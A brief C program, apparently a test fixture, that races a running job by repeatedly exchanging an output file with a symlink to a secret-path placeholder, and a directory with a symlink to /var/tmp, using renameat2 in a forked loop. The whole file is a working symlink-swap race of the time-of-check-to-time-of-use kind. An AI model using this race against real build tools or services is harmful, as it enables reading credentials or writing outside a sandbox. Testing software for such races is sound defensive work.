// Exchanges an output and a link to a secret, and a directory on the way to another output and a link to the host's,
// as fast as the kernel can: ten thousand times before the job ends, and in another process for as long as it lives.
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static long exchange(const char *one, const char *other) {
    return syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE);
}

static void own(const char *path) {
    FILE *file = fopen(path, "w");
    fputs("own: ret\n", file);
    fclose(file);
}

static int round_done(void) {
    return !exchange("output.s", "link") && !exchange("out", "host");
}

int main(void) {
    int exchanges = 0;
    own("output.s");
    symlink("@CREDENTIALS@", "link");
    mkdir("out", 0755);
    mkdir("out/x", 0755);
    own("out/x/o.s");
    symlink("/var/tmp", "host");
    if (!fork())
        for (;;) round_done();
    while (exchanges < 10000) exchanges += round_done();
    fprintf(stderr, "%d exchanges\n", exchanges);
}
